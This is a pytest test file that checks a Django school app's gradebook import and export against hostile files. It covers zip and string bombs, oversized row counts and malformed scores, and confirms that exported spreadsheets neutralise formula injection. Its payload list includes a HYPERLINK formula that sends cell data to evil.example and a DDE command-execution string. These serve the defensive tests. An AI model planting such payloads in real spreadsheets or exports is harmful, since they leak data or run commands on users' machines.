"""Gradebook files from an attacker (issue 17 §4 "Gradebook import takes the web tier
down", "Export formula injection", "the grade import accepts 1_0 as 10")."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from accounts.errors import ApplicationError
from accounts.models import Role
from teachers.gradebook_io import MAX_IMPORT_ROWS, MAX_REPORTED_ERRORS, gradebook_export, gradebook_import
from teachers.models import Enrolment, GradeChange
from tests.factories import UserFactory
from tests.radar.builders import make_class, make_major, make_offering, make_program, make_student, make_term

pytestmark = pytest.mark.django_db

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
              "\t=1+1"]


@pytest.fixture(autouse=True)
def _english():
    from django.utils import translation

    with translation.override("en"):
        yield


@pytest.fixture
def book():
    teacher = UserFactory(role=Role.TEACHER, username="sec_gb_teacher")
    major = make_major(competencies=("a", "b"))
    make_program(major, 2024, [("SEC1", 4, 1, {"a": 1, "b": 1})])
    school_class = make_class(major, 2024, code="sec-class")
    students = [make_student(school_class, number=f"2024100{i:03d}") for i in range(3)]
    offering = make_offering("SEC1", make_term(), school_class, teacher=teacher)
    return {"teacher": teacher, "offering": offering, "students": students}


def _import(book, name, data):
    return gradebook_import(actor=book["teacher"], offering=book["offering"], upload_name=name, data=data)


def _xlsx(fill) -> bytes:
    workbook = openpyxl.Workbook()
    fill(workbook.active)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rewrite_member(data: bytes, member: str, transform) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == member:
                content = transform(content)
            target.writestr(info.filename, content)
    return out.getvalue()


def _refused(book, name, data, code):
    with pytest.raises(ApplicationError) as caught:
        _import(book, name, data)
    assert caught.value.code == code, caught.value.message
    assert "openpyxl" not in str(caught.value.message) and "<" not in str(caught.value.message)
    assert not GradeChange.objects.exists()
    return caught.value


def test_tiny_xlsx_with_a_row_at_the_last_line_is_refused_from_its_dimension(book):
    def fill(ws):
        ws.append(["学号", "成绩"])
        ws.cell(row=1048576, column=1, value="x")

    data = _xlsx(fill)
    assert len(data) < 10_000
    _refused(book, "g.xlsx", data, "file_too_many_rows")


def test_xlsx_that_hides_its_dimension_is_capped_while_streaming(book):
    def fill(ws):
        ws.append(["学号", "成绩"])
        for i in range(MAX_IMPORT_ROWS + 5):
            ws.append([f"n{i}", 50])

    data = _rewrite_member(_xlsx(fill), "xl/worksheets/sheet1.xml",
                           lambda xml: re.sub(rb"<dimension[^>]*/>", b"", xml))
    _refused(book, "g.xlsx", data, "file_too_many_rows")


def test_huge_string_bomb_is_refused_before_parsing(book):
    def fill(ws):
        ws.append(["学号", "成绩"])
        ws.append(["x", "y"])

    def bomb(xml):
        return xml.replace(b"<t>x</t>", b"<t>" + b"A" * (60 * 1024 * 1024) + b"</t>")

    data = _rewrite_member(_xlsx(fill), "xl/worksheets/sheet1.xml", bomb)
    assert len(data) < 1024 * 1024
    _refused(book, "g.xlsx", data, "file_too_large")


def test_million_row_csv_is_refused_at_the_cap(book):
    data = b"student_number,score\n" + b"1,1\n" * 1_000_000
    _refused(book, "g.csv", data, "file_too_many_rows")


@pytest.mark.parametrize(("name", "data", "code"), [
    ("g.csv", "学号,成绩\n1,2\n".encode("gb18030"), "file_encoding"),
    ("g.xlsx", b"PK\x03\x04not a zip", "file_unreadable"),
    ("g.xlsx", b"student_number,score\n1,2\n", "file_unreadable"),
    ("g.csv", b"", "file_empty"),
    ("g.pdf", b"%PDF-1.4", "file_type"),
    ("g.csv", b"student_number,score\n\"" + b"x" * 200_000 + b"\",1\n", "file_unreadable"),
    ("g.csv", b"student_number,score\n" + b"x" * 600 + b",1\n", "file_cell_too_long"),
])
def test_bad_files_are_refused_with_a_reason(book, name, data, code):
    _refused(book, name, data, code)


def test_error_list_is_capped_but_counted(book, client):
    rows = "".join(f"nobody{i},50\n" for i in range(MAX_REPORTED_ERRORS * 3))
    report = _import(book, "g.csv", ("student_number,score\n" + rows).encode())
    assert report.error_count == MAX_REPORTED_ERRORS * 3
    assert len(report.errors) == MAX_REPORTED_ERRORS
    client.force_login(book["teacher"])
    upload = io.BytesIO(("student_number,score\n" + rows).encode())
    upload.name = "g.csv"
    response = client.post(reverse("teachers:gradebook_import", args=[book["offering"].pk]), {"file": upload})
    assert response.status_code == 400
    body = response.content.decode()
    assert body.count("nobody") == MAX_REPORTED_ERRORS
    more = re.search(r'id="import-errors-more">([^<]*)<', body)
    assert more and str(MAX_REPORTED_ERRORS * 2) in more.group(1)


@pytest.mark.parametrize("score", ["1_0", "1e1", "NaN", "Infinity", "0x10", "1 0"])
def test_only_plain_decimal_scores_are_accepted(book, score):
    number = book["students"][0].student_number
    report = _import(book, "g.csv", f"student_number,score\n{number},{score}\n".encode())
    assert not report.ok and "not a number" in report.errors[0].reason
    assert Enrolment.objects.filter(offering=book["offering"], score__isnull=False).count() == 0


def _name_students(book):
    for student, name in zip(book["students"] * 2, INJECTIONS, strict=False):
        student.user.display_name = name
        student.user.save(update_fields=["display_name"])


def test_csv_export_neutralises_formulas_and_still_reimports(book):
    _name_students(book)
    content, _type, name = gradebook_export(offering=book["offering"], fmt="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    names = {row[1] for row in rows[1:]}
    assert {"'" + n for n in INJECTIONS[-3:]} == names
    assert _import(book, name, content).ok


def test_xlsx_export_stores_formula_like_names_as_text(book):
    _name_students(book)
    content, _type, name = gradebook_export(offering=book["offering"], fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = {sheet.cell(row=r, column=2).value for r in range(2, sheet.max_row + 1)}
    assert names == set(INJECTIONS[-3:])  # kept exactly, as text
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    assert _import(book, name, content).ok
